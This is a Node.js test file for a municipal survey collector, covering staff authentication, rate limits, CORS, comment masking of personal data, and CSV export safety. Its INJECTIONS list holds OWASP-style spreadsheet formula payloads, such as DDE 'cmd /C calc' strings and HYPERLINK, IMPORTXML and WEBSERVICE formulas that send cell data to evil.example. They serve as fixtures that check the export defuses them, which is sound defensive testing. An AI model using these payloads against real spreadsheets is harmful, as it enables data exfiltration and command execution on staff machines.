// Staff-only access, rate limit, CORS, the summary API and the CSV's safety in spreadsheets: `node --test server/`.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createSurveyCollector, defuse, toCsv, CSV_SEPARATOR } from './survey-collector.mjs';

const TOKEN = 'staff-token-for-tests-0123456789';
let n = 0;
const uuid = () => `3f2b6c1e-8a4d-4b7e-9c21-${String(++n).padStart(12, '0')}`;
const answer = (answers = {}, overrides = {}) => ({
  schema: 1,
  id: uuid(),
  surveyId: 'oac-satisfaccion',
  answers: { satisfaction: 5, resolved: 'yes', channel: 'whatsapp', ...answers },
  locale: 'es',
  page: '/atencion-ciudadana',
  submittedAt: '2026-12-02T10:00:00.000Z',
  ...overrides,
});

async function start(t, options = {}) {
  const dir = mkdtempSync(join(tmpdir(), 'survey-staff-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const collector = createSurveyCollector({ file: join(dir, 'answers.jsonl'), mount: '/api/survey', ...options });
  const server = createServer((req, res) => collector(req, res));
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  t.after(() => new Promise((resolve) => server.close(resolve)));
  const base = `http://127.0.0.1:${server.address().port}/api/survey`;
  return {
    base,
    post: (body, headers = {}) => fetch(base, { method: 'POST', headers: { 'Content-Type': 'application/json', ...headers }, body: JSON.stringify(body) }),
    get: (path, headers = {}) => fetch(`${base}${path}`, { headers }),
    bearer: { Authorization: `Bearer ${TOKEN}` },
  };
}

// ---- Staff-only access ----------------------------------------------------------------------------------------------

test('with no staff token configured, the summary and the export refuse with a message that says what to set', async (t) => {
  const api = await start(t);
  for (const path of ['/summary', '/export.csv']) {
    const response = await api.get(path, { Authorization: 'Bearer anything-at-all-here' });
    assert.equal(response.status, 403, path);
    assert.match((await response.json()).error, /SURVEY_STAFF_TOKEN/);
  }
  // Answers are still collected.
  assert.equal((await api.post(answer())).status, 201);
});

test('a staff token shorter than 16 characters is refused as configuration, even when presented', async (t) => {
  const api = await start(t, { staffToken: 'short' });
  const response = await api.get('/summary', { Authorization: 'Bearer short' });
  assert.equal(response.status, 403);
  assert.match((await response.json()).error, /shorter than 16/);
});

test('staff routes answer 401 with a sign-in challenge without the credential or with a wrong one', async (t) => {
  const api = await start(t, { staffToken: TOKEN });
  await api.post(answer({ comment: 'secreto del personal' }));
  const wrong = [
    {},
    { Authorization: `Bearer ${TOKEN.slice(0, -1)}` },
    { Authorization: `Bearer ${TOKEN}x` },
    { Authorization: `Basic ${Buffer.from(`oficina:${TOKEN.toUpperCase()}`).toString('base64')}` },
    { Authorization: `Basic ${Buffer.from(TOKEN).toString('base64')}` }, // no user:password form
    { Authorization: `Token ${TOKEN}` },
    { Authorization: '' },
  ];
  for (const headers of wrong) {
    for (const path of ['/summary', '/export.csv', '/export.csv?channel=whatsapp']) {
      const response = await api.get(path, headers);
      assert.equal(response.status, 401, `${path} ${JSON.stringify(headers)}`);
      assert.match(response.headers.get('www-authenticate'), /^Basic realm=/);
      const text = await response.text();
      assert.ok(!text.includes('secreto'), 'no answer leaks in a refusal');
    }
  }
});

test('the right credential opens both staff routes, as a Bearer token or as a Basic password', async (t) => {
  const api = await start(t, { staffToken: TOKEN });
  await api.post(answer({ comment: 'Muy bien' }));
  const basic = { Authorization: `Basic ${Buffer.from(`oficina:${TOKEN}`).toString('base64')}` };
  for (const headers of [api.bearer, basic]) {
    const summary = await api.get('/summary', headers);
    assert.equal(summary.status, 200);
    assert.equal((await summary.json()).count, 1);
    const csv = await api.get('/export.csv', headers);
    assert.equal(csv.status, 200);
    assert.match(csv.headers.get('content-disposition'), /attachment; filename="respuestas-encuesta-\d{4}-\d{2}-\d{2}\.csv"/);
    assert.equal(csv.headers.get('cache-control'), 'no-store');
    assert.ok((await csv.text()).includes('"Muy bien"'));
  }
});

test('staff routes accept only GET', async (t) => {
  const api = await start(t, { staffToken: TOKEN });
  const response = await fetch(`${api.base}/export.csv`, { method: 'DELETE', headers: api.bearer });
  assert.equal(response.status, 405);
});

// ---- Rate limit ------------------------------------------------------------------------------------------------------

test('POSTs beyond the burst get 429 with Retry-After, per client, until the bucket refills', async (t) => {
  let clock = 1_000_000;
  const api = await start(t, { rateLimit: { burst: 3, perMinute: 6 }, trustProxy: true, now: () => clock });
  const from = (ip) => ({ 'X-Forwarded-For': ip });
  for (let i = 0; i < 3; i++) assert.equal((await api.post(answer(), from('203.0.113.7'))).status, 201);
  const limited = await api.post(answer(), from('203.0.113.7'));
  assert.equal(limited.status, 429);
  assert.equal(limited.headers.get('retry-after'), '10', 'one token every 10 s at 6 a minute');
  assert.match((await limited.json()).error, /too many/);
  // Another client is not affected.
  assert.equal((await api.post(answer(), from('198.51.100.2'))).status, 201);
  clock += 10_000;
  assert.equal((await api.post(answer(), from('203.0.113.7'))).status, 201);
  assert.equal((await api.post(answer(), from('203.0.113.7'))).status, 429);
});

test('without trustProxy, X-Forwarded-For cannot dodge the limit', async (t) => {
  const api = await start(t, { rateLimit: { burst: 2, perMinute: 1 } });
  assert.equal((await api.post(answer(), { 'X-Forwarded-For': '1.1.1.1' })).status, 201);
  assert.equal((await api.post(answer(), { 'X-Forwarded-For': '2.2.2.2' })).status, 201);
  const third = await api.post(answer(), { 'X-Forwarded-For': '3.3.3.3' });
  assert.equal(third.status, 429);
  assert.equal(third.headers.get('retry-after'), '60');
});

// ---- CORS ------------------------------------------------------------------------------------------------------------

const CABILDO = 'https://www.cabildodelanzarote.com';

test('a preflight from an allowed origin gets 204 with the methods and headers the survey needs', async (t) => {
  const api = await start(t);
  const response = await fetch(api.base, {
    method: 'OPTIONS',
    headers: { Origin: CABILDO, 'Access-Control-Request-Method': 'POST', 'Access-Control-Request-Headers': 'content-type' },
  });
  assert.equal(response.status, 204);
  assert.equal(response.headers.get('access-control-allow-origin'), CABILDO);
  assert.equal(response.headers.get('access-control-allow-methods'), 'POST');
  assert.equal(response.headers.get('access-control-allow-headers'), 'Content-Type');
  assert.match(response.headers.get('vary'), /Origin/);
  assert.ok(Number(response.headers.get('access-control-max-age')) > 0);
});

test('a POST from an allowed origin is stored and can read Retry-After; other origins are refused', async (t) => {
  const api = await start(t, { allowedOrigins: [CABILDO, 'https://sede.example'] });
  const ok = await api.post(answer(), { Origin: 'https://sede.example' });
  assert.equal(ok.status, 201);
  assert.equal(ok.headers.get('access-control-allow-origin'), 'https://sede.example');
  assert.equal(ok.headers.get('access-control-expose-headers'), 'Retry-After');
  for (const origin of ['https://evil.example', 'https://www.cabildodelanzarote.com.evil.example', 'null', 'http://www.cabildodelanzarote.com']) {
    const preflight = await fetch(api.base, { method: 'OPTIONS', headers: { Origin: origin, 'Access-Control-Request-Method': 'POST' } });
    assert.equal(preflight.status, 403, origin);
    assert.equal(preflight.headers.get('access-control-allow-origin'), null, origin);
    const post = await api.post(answer(), { Origin: origin });
    assert.equal(post.status, 403, origin);
    assert.equal(post.headers.get('access-control-allow-origin'), null);
  }
});

test('a page on the collector\'s own origin posts without being in the list', async (t) => {
  const api = await start(t, { allowedOrigins: [] });
  const response = await api.post(answer(), { Origin: new URL(api.base).origin });
  assert.equal(response.status, 201);
});

test('a preflight for another method or header is refused; staff routes allow GET with Authorization', async (t) => {
  const api = await start(t, { staffToken: TOKEN });
  const put = await fetch(api.base, { method: 'OPTIONS', headers: { Origin: CABILDO, 'Access-Control-Request-Method': 'PUT' } });
  assert.equal(put.status, 403);
  const header = await fetch(api.base, { method: 'OPTIONS', headers: { Origin: CABILDO, 'Access-Control-Request-Method': 'POST', 'Access-Control-Request-Headers': 'content-type, x-admin' } });
  assert.equal(header.status, 403);
  const staff = await fetch(`${api.base}/summary`, { method: 'OPTIONS', headers: { Origin: CABILDO, 'Access-Control-Request-Method': 'GET', 'Access-Control-Request-Headers': 'authorization' } });
  assert.equal(staff.status, 204);
  assert.equal(staff.headers.get('access-control-allow-headers'), 'Authorization');
  const read = await api.get('/summary', { ...api.bearer, Origin: CABILDO });
  assert.equal(read.status, 200);
  assert.equal(read.headers.get('access-control-allow-origin'), CABILDO);
});

// ---- Summary API -----------------------------------------------------------------------------------------------------

test('the summary counts, splits and filters the answers; bad filters get 400', async (t) => {
  const api = await start(t, { staffToken: TOKEN });
  await api.post(answer({ satisfaction: 5, resolved: 'yes', channel: 'whatsapp', comment: 'Muy amables' }));
  await api.post(answer({ satisfaction: 4, resolved: 'partly', channel: 'presencial' }));
  await api.post(answer({ satisfaction: 1, resolved: 'no', channel: 'telefono', comment: 'Nadie cogió el teléfono' }));
  const all = await (await api.get('/summary', api.bearer)).json();
  assert.equal(all.count, 3);
  assert.deepEqual(all.distribution, [1, 0, 0, 1, 1]);
  assert.equal(all.satisfied, 2);
  assert.equal(all.mean, 10 / 3);
  assert.deepEqual(all.resolved, { yes: 1, partly: 1, no: 1 });
  assert.equal(all.resolvedShare, 1 / 3);
  assert.equal(all.channels.find((c) => c.channel === 'telefono').count, 1);
  assert.equal(all.trend.bucket, 'month');
  assert.equal(all.trend.points.reduce((sum, p) => sum + p.count, 0), 3);
  assert.equal(all.comments.total, 2);
  const phone = await (await api.get('/summary?channel=telefono&bucket=week', api.bearer)).json();
  assert.equal(phone.count, 1);
  assert.equal(phone.trend.bucket, 'week');
  const search = await (await api.get(`/summary?q=${encodeURIComponent('AMABLES')}`, api.bearer)).json();
  assert.deepEqual(search.comments.items.map((c) => c.comment), ['Muy amables']);
  const future = await (await api.get('/summary?from=2090-01-01&to=2090-01-31', api.bearer)).json();
  assert.equal(future.count, 0);
  assert.equal(future.mean, null);
  for (const bad of ['from=2026-02-30', 'to=ayer', 'from=2026-03-01&to=2026-02-01', 'channel=fax', 'bucket=day', 'limit=500', 'offset=-1', `q=${'x'.repeat(101)}`, 'survey=../x']) {
    const response = await api.get(`/summary?${bad}`, api.bearer);
    assert.equal(response.status, 400, bad);
    assert.equal(typeof (await response.json()).error, 'string');
  }
});

// ---- Privacy of comments -----------------------------------------------------------------------------------------

test('a comment POSTed without the browser\'s masking reaches staff masked, in the summary, the search and the CSV', async (t) => {
  const api = await start(t, { staffToken: TOKEN });
  const raw = 'Soy Ana Betancort. Mi NIE es X-1234567-L, móvil +34 628 53 84 49, ana.betancort@ejemplo.es. Buena atención';
  assert.equal((await api.post(answer({ comment: raw }))).status, 201);
  const masked = 'Soy [NOMBRE]. Mi NIE es [DNI/NIE], móvil [TELÉFONO], [EMAIL]. Buena atención';
  const summary = await (await api.get('/summary?q=ATENCION', api.bearer)).json();
  assert.deepEqual(summary.comments.items.map((c) => c.comment), [masked]);
  const csv = await (await api.get('/export.csv', api.bearer)).text();
  assert.ok(csv.includes(masked), csv);
  for (const secret of ['Betancort', '1234567', '628', 'ana.betancort', 'ejemplo.es']) {
    assert.ok(!JSON.stringify(summary).includes(secret) && !csv.includes(secret), secret);
  }
});

test('answers stored before the collector masked comments are masked on their way to staff', async (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'survey-old-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const file = join(dir, 'answers.jsonl');
  // Written by an older collector, straight into its file: nothing masked.
  writeFileSync(file, `${JSON.stringify({ ...answer({ comment: 'Me llamo Pedro Cabrera, 12345678Z, 928810100' }), receivedAt: '2026-12-02T10:00:01.000Z' })}\n`);
  const api = await start(t, { staffToken: TOKEN, file });
  const summary = await (await api.get('/summary', api.bearer)).json();
  assert.equal(summary.comments.items[0].comment, 'Me llamo [NOMBRE], [DNI/NIE], [TELÉFONO]');
  const csv = await (await api.get('/export.csv', api.bearer)).text();
  assert.ok(csv.includes('"Me llamo [NOMBRE], [DNI/NIE], [TELÉFONO]"'), csv);
  assert.ok(!csv.includes('Pedro') && !csv.includes('12345678'), csv);
});

// ---- CSV in spreadsheets ---------------------------------------------------------------------------------------------

/** RFC 4180 reading with a given separator, the way Excel and LibreOffice read a quoted CSV. */
function parseCsv(text, separator) {
  const rows = [[]];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === separator) {
      rows.at(-1).push(field);
      field = '';
    }
    else if (c === '\n' || c === '\r') {
      if (c === '\r' && text[i + 1] === '\n') i++;
      rows.at(-1).push(field);
      field = '';
      rows.push([]);
    } else field += c;
  }
  if (field || rows.at(-1).length) rows.at(-1).push(field);
  return rows.filter((r) => r.length);
}

// The issue's payloads, and OWASP's CSV-injection examples (owasp.org/www-community/attacks/CSV_Injection) with the
// usual variants: leading whitespace, quotes, full-width signs, a formula after each possible separator.
const INJECTIONS = [
  'hola;=1+1',
  "ok;=cmd|' /C calc'!A0",
  "=cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  '=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: pulse aquí")',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")A0',
  '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
  '=WEBSERVICE("http://evil.example/")',
  '\t=1+1',
  '\r=1+1',
  'texto\n=1+1',
  'a,=1+1',
  'a\t=1+1',
  'a|=1+1',
  'a; =1+1',
  'a;"=1+1',
  'a;\t=1+1',
  '\uFF1D1+1',
  'x;\uFF0B1+1',
  '-',
  '@',
];
const TRIGGER = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

test('the CSV has no cell that starts a formula, whatever separator or reader opens it', async (t) => {
  const api = await start(t, { staffToken: TOKEN, rateLimit: false });
  for (const comment of INJECTIONS) assert.equal((await api.post(answer({ comment }))).status, 201, JSON.stringify(comment));
  // The page is free text too (no spaces, ? or #): a formula after a ; in it.
  assert.equal((await api.post(answer({}, { page: '/x;=1+1' }))).status, 201);
  const text = (await (await api.get('/export.csv', api.bearer)).text()).replace(/^\uFEFF/, '');
  assert.ok(!text.startsWith('sep='), 'no sep= line (it would make Excel ignore the BOM)');
  const header = parseCsv(text, CSV_SEPARATOR)[0];
  assert.equal(header.length, 10, 'Excel in Spanish (separator ;) opens it in columns');
  const commentColumn = header.indexOf('comment');
  for (const separator of [';', ',', '\t', '|']) {
    for (const row of parseCsv(text, separator)) for (const cell of row) assert.ok(!TRIGGER.test(cell.trimStart().replace(/^"+/, '')), `${JSON.stringify(separator)}: ${JSON.stringify(cell)}`);
  }
  // A reader that ignores the quotes and splits on every separator-like character, stripping quotes and spaces.
  for (const cell of text.split(/[;,\t|\r\n]/)) assert.ok(!TRIGGER.test(cell.replace(/^[\s"]+/, '')), JSON.stringify(cell));
  // What the office reads back is the comment, with only apostrophes added.
  const rows = parseCsv(text, ';').slice(1);
  for (const comment of INJECTIONS) {
    assert.ok(rows.some((row) => row[commentColumn].replace(/'/g, '') === comment.replace(/'/g, '')), JSON.stringify(comment));
  }
  // Every text field is quoted; the two numbers are bare.
  for (const line of text.trim().split('\r\n').slice(1, 3)) assert.match(line, /^"[^"]+";"[^"]+";"[^"]+";"oac-satisfaccion";"es";"[^"]*";[1-5];"/);
});

test('defuse leaves ordinary text alone', () => {
  for (const text of ['Muy amables, gracias', 'Esperé 20-30 minutos', 'correo: [EMAIL]', '4,5 de 5', 'A+ de nota']) assert.equal(defuse(text), text);
  assert.equal(toCsv([]).split('\r\n').length, 2);
});
